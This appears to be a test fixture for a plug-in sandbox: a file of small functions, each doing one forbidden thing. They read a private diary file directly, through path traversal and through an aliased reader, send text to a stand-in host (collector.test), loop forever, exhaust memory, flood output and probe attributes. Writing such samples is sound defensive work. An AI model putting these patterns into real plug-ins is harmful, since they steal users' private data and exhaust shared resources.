// Does what a plug-in should not do, one thing a function.
import file;
import http;

function peek() { return file.read("/notes/diary.txt"); }

function peek_quietly() {
    try { return file.read("/notes/diary.txt"); }
    except (e) { return "nothing seen"; }
}

function climb() { return file.read("/rude/../notes/diary.txt"); }

function borrow() {
    reader = file.read;
    return reader("/notes/diary.txt");
}

function call_home(text) { return http.get("http://collector.test/?" + text); }

function spin() { while (true) { } }

function spin_for_ever() {
    while (true) {
        try { spin(); }
        except (e) { spin(); }
        finally { spin(); }
    }
}

function grow() {
    text = "x";
    while (true) { text = text + text; }
}

function chatter() { while (true) { print("and another thing"); } }

function explode() { throw {message: "boom", code: 13}; }

function reach(name) { return getattr("text", name); }
